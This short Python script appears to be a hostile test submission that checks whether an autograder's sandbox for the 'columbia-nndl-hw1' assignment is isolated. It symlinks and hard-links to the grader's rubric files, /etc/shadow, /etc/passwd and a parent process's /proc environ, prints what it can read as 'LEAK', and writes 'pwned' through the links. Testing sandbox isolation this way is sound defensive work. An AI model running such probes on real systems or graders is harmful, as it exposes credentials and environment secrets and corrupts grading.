# Symlinks and hard links from its own directory to files outside (rubrics, the test's rubric
# copy, /etc/shadow, the grader's /proc entries), then reads and writes through them.  The
# cleanup that deletes the run directory must not follow them either.
ASSIGNMENT = "columbia-nndl-hw1"
import glob
import os

H = [[16, 8, 20], [8, 4, 10], [20, 10, 25]]
z = [48, 12, 24]

targets = ["/work/main/rubrics", "/work/main/rubrics/columbia_nndl_hw1.toml", "/etc/shadow", "/etc/passwd",
           f"/proc/{os.getppid()}/environ", "/proc/1/root", "/"] + glob.glob("/tmp/grader-hostile-*/*")
for index, target in enumerate(targets):
    link = f"link{index}"
    try:
        os.symlink(target, link)
    except OSError:
        continue
    try:
        if os.path.isdir(link):
            print("LEAK" if "rubric" in target else "seen", target, os.listdir(link)[:10], flush=True)
        else:
            with open(link, errors="replace") as handle:
                text = handle.read(200)
            if target not in ("/etc/passwd",):
                print("LEAK", target, text[:100].replace("\n", " | "), flush=True)
    except OSError as exc:
        print("blocked", target, exc.strerror, flush=True)
    try:
        with open(link, "a") as handle:
            handle.write("pwned\n")
        print("PWNED wrote through", target, flush=True)
    except OSError:
        pass
for index, target in enumerate(targets):
    try:
        os.link(target, f"hard{index}")
        print("PWNED hard link to", target, flush=True)
    except OSError:
        pass
